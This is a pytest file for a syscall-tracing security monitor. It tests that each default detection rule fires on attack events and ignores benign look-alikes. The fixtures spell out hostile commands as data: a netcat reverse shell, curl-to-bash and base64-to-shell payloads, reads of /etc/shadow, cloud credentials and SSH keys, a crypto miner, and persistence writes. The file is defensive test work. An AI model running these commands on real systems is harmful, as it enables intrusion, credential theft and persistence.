"""Each default rule fires on what it is about, and not on a benign look-alike."""

from __future__ import annotations

import errno
from pathlib import Path

import pytest

from tracehound.event import Event, ProcInfo
from tracehound.filters.chain import StageChain

from .conftest import connect_ev, ev, exec_ev, make_chain, open_ev, proc, rules_hit

NODE = proc("node server.js", exe="/usr/local/bin/node")
PY = proc("python3 app.py", exe="/usr/bin/python3.11", name="python3")
WORKER = proc("python3 app.py", exe="/usr/bin/python3.11", name="python3", uid=1000, gid=1000)


def _tagged(e: Event, *tags: str) -> Event:
    e.tags.update(tags)
    return e


def _result(e: Event, res: int) -> Event:
    """The result the exit stop reads (tracer.verify)."""
    e.fields["evt.res"] = res
    return e


def _dropped_then_run(c: StageChain) -> list[str]:
    rules_hit(c, open_ev(PY, "/app/bin/helper", "O_WRONLY|O_CREAT|O_TRUNC"))
    return rules_hit(c, exec_ev(proc("/app/bin/helper", parent=PY)))


# (rule, events that must trigger it)
TRIGGERS: dict[str, list[Event]] = {
    "Shell spawned by a server process": [exec_ev(proc("sh -c id", exe="/bin/sh", parent=NODE))],
    "Read sensitive file by unexpected program": [
        open_ev(proc("cat /etc/shadow"), "/etc/shadow"),
        open_ev(PY, "/root/.aws/credentials"),
        open_ev(PY, "/proc/1/environ"),
        open_ev(PY, "/var/run/secrets/kubernetes.io/serviceaccount/token"),
        open_ev(PY, "/home/app/.ssh/id_ed25519"),
    ],
    "Write below binary directory": [open_ev(PY, "/usr/bin/evil", "O_WRONLY|O_CREAT|O_TRUNC")],
    "Write below etc": [open_ev(PY, "/etc/cron.d/job", "O_WRONLY|O_CREAT")],
    "Execution from temporary directory": [exec_ev(proc("/tmp/x/payload", parent=PY))],
    "Fileless execution via memfd": [
        exec_ev(proc("payload", exe="/memfd:payload (deleted)", parent=PY))
    ],
    "Redirect stdio to network connection": [
        ev("dup2", PY, evt__arg__fd=3, evt__arg__newfd=0, fd__type="ipv4", fd__name="1.2.3.4:4444")
    ],
    "Netcat with exec option": [
        exec_ev(proc("nc -e /bin/sh 10.0.0.1 4444", exe="/bin/nc.openbsd", name="nc", parent=PY)),
        exec_ev(proc("ncat --sh-exec id 10.0.0.1 4444", parent=PY)),
    ],
    "Package management process launched": [
        exec_ev(proc("apt-get install -y curl", parent=PY)),
        exec_ev(proc("pip install requests", exe="/usr/local/bin/pip", parent=PY)),
    ],
    "Contact credentials endpoint": [
        connect_ev(PY, "169.254.169.254", 80),
        connect_ev(PY, "169.254.170.2", 80),
        _result(connect_ev(PY, "169.254.169.254", 80), -errno.EINPROGRESS),
    ],
    "Ptrace attach or memory write": [
        ev("ptrace", PY, evt__arg__request="PTRACE_ATTACH", evt__arg__pid=42),
        ev("ptrace", PY, evt__arg__request="PTRACE_POKEDATA", evt__arg__pid=42),
        ev("process_vm_writev", PY, evt__arg__pid=42),
    ],
    "Search for AWS credentials or private keys": [
        exec_ev(proc(("grep", "-r", "aws_secret_access_key", "/"), parent=PY)),
        exec_ev(proc(("find", "/", "-name", "id_rsa"), parent=PY)),
        exec_ev(proc(("grep", "-rl", "BEGIN RSA PRIVATE KEY", "/home"), parent=PY)),
    ],
    "Clear log activities": [open_ev(PY, "/var/log/auth.log", "O_WRONLY|O_TRUNC")],
    "Setuid or setgid to root by non-root": [
        ev("setuid", WORKER, evt__arg__uid=0),
        ev("setresgid", WORKER, evt__arg__rgid=0, evt__arg__egid=0, evt__arg__sgid=0),
    ],
    # tracer.verify: the kernel opened/connected/executed something else than claimed
    "Syscall argument changed behind the tracer": [
        ev(
            "openat",
            PY,
            fd__name="/etc/shadow",
            evt__arg__name="/etc/hostname",
            evt__claim_mismatch=True,
            evt__arg__claim="/etc/hostname",
            evt__res=3,
        ),
        ev(
            "connect",
            PY,
            fd__name="169.254.169.254:80",
            evt__arg__addr="127.0.0.1:80",
            evt__claim_mismatch=True,
            evt__arg__claim="127.0.0.1:80",
            evt__res=0,
        ),
        exec_ev(proc("evilprog"), evt__claim_mismatch=True, evt__arg__claim="/tmp/harmless"),
    ],
    "Attempt to silence or patch the agent": [
        _tagged(ev("kill", PY, evt__arg__pid=1, evt__arg__sig=9, evt__res=-1), "refused"),
        _tagged(ev("pidfd_send_signal", PY, evt__arg__fd=3, evt__arg__sig=19), "refused"),
        _tagged(ev("process_vm_writev", PY, evt__arg__pid=1), "refused"),
    ],
    "Seccomp listener requested by the application": [
        ev("seccomp", PY, evt__arg__op="SECCOMP_SET_MODE_FILTER", evt__arg__flags="NEW_LISTENER")
    ],
    "io_uring ring created": [ev("io_uring_setup", PY, evt__arg__entries=8, evt__res=3)],
    "Process made itself unreadable": [
        ev("prctl", PY, evt__arg__option="PR_SET_DUMPABLE", evt__arg__value=0)
    ],
    "Syscall argument unreadable by the agent": [
        _tagged(open_ev(PY, "<unreadable>"), "unreadable"),
        _tagged(exec_ev(proc("x", parent=PY)), "unreadable"),
    ],
    "Clone hidden from the tracer": [
        _tagged(ev("clone", PY, evt__arg__flags="CLONE_UNTRACED|CLONE_VM"), "untraced_clone"),
    ],
    "Process memory opened for reading": [
        open_ev(PY, "/proc/1/mem", "O_RDONLY|O_CLOEXEC"),
        open_ev(PY, "/proc/42/mem"),
    ],
    "Path rebound while an open ran": [_tagged(open_ev(PY, "/srv/app/config"), "path_changed")],
}

_SH = proc("sh -c x", exe="/bin/sh", parent=NODE)


def _outside(p: ProcInfo) -> Event:
    """An exec of a process found outside the application's tree (agent/outside.py)."""
    e = exec_ev(p)
    e.tags.add("outside_tree")
    return e


# The GuardDuty-class rules (acted out for real in test_guardduty_e2e.py).
TRIGGERS |= {
    "Crypto miner launched": [
        exec_ev(proc("xmrig -o pool:443", exe="/opt/x/xmrig", parent=PY)),
        exec_ev(proc("svc -o stratum+tcp://pool:3333", exe="/opt/x/svc", parent=PY)),
        exec_ev(proc("svc --donate-level 1", exe="/opt/x/svc", parent=PY)),
    ],
    "Connection to a mining pool port": [connect_ev(PY, "203.0.113.7", 14444)],
    "Connection to a Tor port": [
        connect_ev(PY, "203.0.113.7", 9001),
        exec_ev(proc("tor -f torrc", parent=PY)),
    ],
    "Offensive tool launched": [
        exec_ev(proc("nmap -sS 10.0.0.0/24", parent=PY)),
        exec_ev(proc("sh linpeas.sh", exe="/bin/sh", name="sh", parent=PY)),
    ],
    "Decoded or downloaded payload run by a shell": [
        exec_ev(proc("sh", exe="/bin/sh", parent=proc(("sh", "-c", "echo eA== | base64 -d | sh")))),
        exec_ev(proc("bash", exe="/bin/bash", parent=proc(("sh", "-c", "curl -s x.sh | bash")))),
        exec_ev(proc(("python3", "-c", "import base64;exec(base64.b64decode('eA=='))"))),
    ],
    "Container runtime socket contacted": [
        ev("connect", PY, fd__name="/var/run/docker.sock", fd__type="unix"),
        ev("connect", PY, fd__name="/run/containerd/containerd.sock", fd__type="unix"),
    ],
    "Running executable opened for writing": [
        open_ev(PY, "/usr/bin/python3.11", "O_WRONLY"),
        open_ev(PY, "/proc/self/exe", "O_RDWR"),
    ],
    "Cgroup release_agent written": [
        open_ev(PY, "/sys/fs/cgroup/memory/release_agent", "O_WRONLY"),
    ],
    "Filesystem mounted in container": [
        ev("mount", PY, evt__arg__source="/dev/xvda1", fd__name="/mnt", evt__arg__fstype="ext4")
    ],
    "Userfaultfd created": [ev("userfaultfd", PY)],
    "Process memory opened for writing": [open_ev(PY, "/proc/42/mem", "O_RDWR")],
    "Ptrace anti-debugging": [ev("ptrace", PY, evt__arg__request="PTRACE_TRACEME")],
    "Kernel module load attempt": [ev("finit_module", PY), ev("init_module", PY)],
    "SSH authorized_keys modified": [
        open_ev(PY, "/root/.ssh/authorized_keys", "O_WRONLY|O_APPEND|O_CREAT"),
        ev("rename", PY, fd__name="/home/app/.ssh/authorized_keys"),
    ],
    "Startup or scheduler file written": [
        open_ev(PY, "/etc/ld.so.preload", "O_WRONLY|O_CREAT"),
        open_ev(PY, "/etc/cron.d/job", "O_WRONLY|O_CREAT"),
        open_ev(PY, "/home/app/.bashrc", "O_WRONLY|O_APPEND"),
    ],
    "Persistence tool launched": [exec_ev(proc("crontab -", parent=PY))],
    "Discovery command from a server's shell": [
        exec_ev(proc("id", parent=_SH)),
        exec_ev(proc("uname -a", parent=NODE)),
    ],
    "Shell run in the container from outside the application": [
        _outside(proc("bash", exe="/bin/bash", parent=None)),
        _outside(proc("id", parent=proc("bash", exe="/bin/bash"))),
    ],
    "Program run in the container from outside the application": [
        _outside(proc("python3 x.py", parent=None)),
    ],
}

# (rule, benign events that must not trigger it)
LOOKALIKES: dict[str, list[Event]] = {
    "Shell spawned by a server process": [
        exec_ev(proc("sh -c ls", exe="/bin/sh", parent=proc("bash", exe="/bin/bash"))),
        exec_ev(proc("convert a b", parent=NODE)),
    ],
    "Read sensitive file by unexpected program": [
        # a refused open read nothing (its result is known with tracer.verify)
        ev("openat", PY, fd__name="/etc/shadow", evt__arg__flags="O_RDONLY", evt__res=-13),
        open_ev(proc("sshd"), "/etc/shadow"),
        open_ev(PY, "/etc/passwd"),  # only writes to passwd are sensitive
        open_ev(PY, "/root/.cache/pip/x"),
        open_ev(proc("nginx", exe="/usr/sbin/nginx"), "/etc/nginx/tls/server.key"),
        open_ev(PY, "/usr/lib/python3/dist-packages/certifi/cacert.pem"),
        open_ev(PY, "/etc/sudoers.dist"),
    ],
    "Write below binary directory": [
        open_ev(PY, "/usr/bin/python3", "O_RDONLY"),
        open_ev(proc("dpkg -i x.deb"), "/usr/bin/tool", "O_WRONLY|O_CREAT"),
        open_ev(PY, "/usr/bin-data/x", "O_WRONLY|O_CREAT"),
    ],
    "Write below etc": [
        open_ev(PY, "/etc/hosts", "O_RDONLY|O_CLOEXEC"),
        open_ev(proc("ldconfig"), "/etc/ld.so.cache~", "O_WRONLY|O_CREAT"),
        open_ev(PY, "/etcetera/x", "O_WRONLY|O_CREAT"),
    ],
    "Drop and execute new binary": [exec_ev(proc("ls -l", exe="/usr/bin/ls", parent=PY))],
    "Execution from temporary directory": [exec_ev(proc("/usr/bin/tmpreaper", parent=PY))],
    "Fileless execution via memfd": [
        exec_ev(proc("memfd-tool", exe="/usr/bin/memfd-tool", parent=PY)),
        ev("memfd_create", PY, evt__arg__name="jit"),
    ],
    "Redirect stdio to network connection": [
        ev("dup2", PY, evt__arg__fd=3, evt__arg__newfd=1, fd__type="file", fd__name="/tmp/log"),
        ev("dup2", PY, evt__arg__fd=3, evt__arg__newfd=7, fd__type="ipv4"),
    ],
    "Netcat with exec option": [exec_ev(proc("nc -z 10.0.0.1 5432", parent=PY))],
    "Package management process launched": [exec_ev(proc("python3 -m json.tool", parent=PY))],
    "Contact credentials endpoint": [
        connect_ev(PY, "10.0.0.5", 5432),
        _result(connect_ev(PY, "169.254.169.254", 80), -errno.ENETUNREACH),  # reached nothing
    ],
    "Ptrace attach or memory write": [
        ev("ptrace", PY, evt__arg__request="PTRACE_TRACEME", evt__arg__pid=0),
        ev("ptrace", PY, evt__arg__request="PTRACE_PEEKDATA", evt__arg__pid=42),
    ],
    "Search for AWS credentials or private keys": [
        exec_ev(proc(("grep", "-r", "TODO", "/app"), parent=PY)),
        exec_ev(proc(("python3", "-c", "print('aws_secret_access_key')"), parent=PY)),
    ],
    "Clear log activities": [
        open_ev(PY, "/var/log/app.log", "O_WRONLY|O_APPEND|O_CREAT"),
        open_ev(PY, "/tmp/x.log", "O_WRONLY|O_TRUNC"),
    ],
    "Crypto miner launched": [exec_ev(proc("minio server /data", parent=PY))],
    "Connection to a mining pool port": [connect_ev(PY, "10.0.0.5", 5432)],
    "Connection to a Tor port": [connect_ev(PY, "10.0.0.5", 9000)],
    "Offensive tool launched": [exec_ev(proc("curl -s http://x", parent=PY))],
    "Decoded or downloaded payload run by a shell": [
        exec_ev(proc("sh", exe="/bin/sh", parent=proc(("sh", "-c", "base64 -d f > out")))),
        exec_ev(proc("sh", exe="/bin/sh", parent=proc(("sh", "-c", "curl -o f x; sh f")))),
    ],
    "Container runtime socket contacted": [
        ev("connect", PY, fd__name="/run/app/app.sock", fd__type="unix"),
    ],
    "Running executable opened for writing": [
        open_ev(PY, "/usr/bin/python3.11", "O_RDONLY"),
        open_ev(PY, "/proc/self/exe", "O_RDONLY"),
    ],
    "Cgroup release_agent written": [
        open_ev(PY, "/sys/fs/cgroup/memory/release_agent", "O_RDONLY"),
    ],
    "Process memory opened for writing": [open_ev(PY, "/proc/42/mem", "O_RDONLY")],
    "Ptrace anti-debugging": [ev("ptrace", PY, evt__arg__request="PTRACE_PEEKDATA")],
    "SSH authorized_keys modified": [open_ev(PY, "/root/.ssh/authorized_keys", "O_RDONLY")],
    "Startup or scheduler file written": [
        open_ev(PY, "/etc/profile", "O_RDONLY"),
        open_ev(PY, "/app/bashrc.txt", "O_WRONLY|O_CREAT"),
    ],
    "Persistence tool launched": [exec_ev(proc("cron-parser x", parent=PY))],
    "Shell run in the container from outside the application": [
        exec_ev(proc("bash", exe="/bin/bash", parent=None)),  # not tagged: the app's own
    ],
    "Program run in the container from outside the application": [
        exec_ev(proc("python3 x.py", parent=None)),
    ],
    "Discovery command from a server's shell": [
        exec_ev(proc("id", parent=proc("sh -c x", exe="/bin/sh"))),
        exec_ev(proc("ps -e", parent=PY)),
    ],
    "Setuid or setgid to root by non-root": [
        ev("setuid", PY, evt__arg__uid=0),  # already root
        ev("setuid", PY, evt__arg__uid=1000),  # root dropping privileges
        ev("setgid", WORKER, evt__arg__gid=1000),
    ],
    "Syscall argument changed behind the tracer": [
        # a symlink's name is no mismatch: the claim is kept, not flagged
        ev(
            "openat", PY, fd__name="/usr/lib/libc.so.6", evt__arg__name="/lib/libc.so.6", evt__res=3
        ),
        connect_ev(PY, "169.254.169.254", 80),
    ],
    "Attempt to silence or patch the agent": [
        ev("kill", PY, evt__arg__pid=42, evt__arg__sig=15),  # a signal to another process
    ],
    "Seccomp listener requested by the application": [
        ev("seccomp", PY, evt__arg__op="SECCOMP_SET_MODE_FILTER", evt__arg__flags="TSYNC")
    ],
    "Process made itself unreadable": [
        ev("prctl", PY, evt__arg__option="PR_SET_DUMPABLE", evt__arg__value=1)
    ],
    "Syscall argument unreadable by the agent": [open_ev(PY, "/etc/hosts")],
    "Clone hidden from the tracer": [ev("clone", PY, evt__arg__flags="CLONE_VM|CLONE_THREAD")],
    "Path rebound while an open ran": [
        open_ev(PY, "/srv/app/config"),  # the same open, no rebinding seen
        _tagged(ev("connect", PY, fd__name="10.0.0.1:80"), "path_changed"),  # opens only
    ],
    "Process memory opened for reading": [
        open_ev(PY, "/proc/self/mem"),
        open_ev(PY, "/proc/42/maps"),
        open_ev(PY, "/proc/42/mem", "O_RDWR"),  # "Process memory opened for writing"
    ],
}


@pytest.mark.parametrize(
    ("rule", "event"), [(r, e) for r, es in TRIGGERS.items() for e in es], ids=lambda x: str(x)[:40]
)
def test_rule_triggers(rule: str, event: Event) -> None:
    assert rule in rules_hit(make_chain(), event)


@pytest.mark.parametrize(
    ("rule", "event"),
    [(r, e) for r, es in LOOKALIKES.items() for e in es],
    ids=lambda x: str(x)[:40],
)
def test_benign_lookalike_does_not_trigger(rule: str, event: Event) -> None:
    assert rule not in rules_hit(make_chain(), event)


def test_drop_and_execute() -> None:
    c = make_chain()
    assert "Drop and execute new binary" in _dropped_then_run(c)


def test_every_default_rule_has_a_trigger_test() -> None:
    c = make_chain()
    assert c.rules is not None
    names = {r.name for r in c.rules.rules}
    assert len(names) >= 15
    assert names - {
        "Drop and execute new binary",
        "Library loaded from a file written after start",
    } == set(TRIGGERS)


def test_library_written_then_loaded() -> None:
    c = make_chain()
    rule = "Library loaded from a file written after start"
    assert rule not in rules_hit(c, open_ev(PY, "/app/lib/libx.so", "O_RDONLY|O_CLOEXEC"))
    rules_hit(c, open_ev(PY, "/app/lib/libx.so", "O_WRONLY|O_CREAT|O_TRUNC"))
    assert rule in rules_hit(c, open_ev(PY, "/app/lib/libx.so", "O_RDONLY|O_CLOEXEC"))
    rules_hit(c, open_ev(PY, "/app/data.txt", "O_WRONLY|O_CREAT"))
    assert rule not in rules_hit(c, open_ev(PY, "/app/data.txt", "O_RDONLY"))


def test_alert_carries_output_priority_tags_and_sensitive_tag() -> None:
    c = make_chain()
    _, alerts = c.process([open_ev(proc("cat /etc/shadow"), "/etc/shadow")])
    (a,) = alerts
    assert a.priority == "Warning"
    assert a.output.startswith("Sensitive file /etc/shadow read by cat (cmdline=cat /etc/shadow")
    assert "T1552" in a.tags
    assert "sensitive_path" in a.event.tags
    assert a.uuid


def test_a_rule_that_raises_on_one_event_costs_no_other_alert(tmp_path: Path) -> None:
    """`contains` on a field that is a number for one syscall (mount's evt.arg.flags):
    before, the TypeError failed the whole batch's chain and every alert in it was lost."""
    (tmp_path / "r.yaml").write_text(
        "- rule: flags text\n  desc: d\n  condition: evt.arg.flags contains O_TRUNC\n"
        "  output: trunc %fd.name\n  priority: WARNING\n"
    )
    c = make_chain(tmp_path, rules={"files": ["builtin:default_rules.yaml", "r.yaml"]})
    batch = [
        ev("mount", PY, evt__arg__flags=4096, fd__name="/mnt"),
        open_ev(proc("cat /etc/shadow"), "/etc/shadow"),
        open_ev(PY, "/var/log/auth.log", "O_WRONLY|O_TRUNC"),
    ]
    _, alerts = c.process(batch)
    rules = [a.rule for a in alerts]
    assert "Read sensitive file by unexpected program" in rules, rules
    assert "flags text" in rules and "Clear log activities" in rules, rules
    assert c.rule_errors >= 1
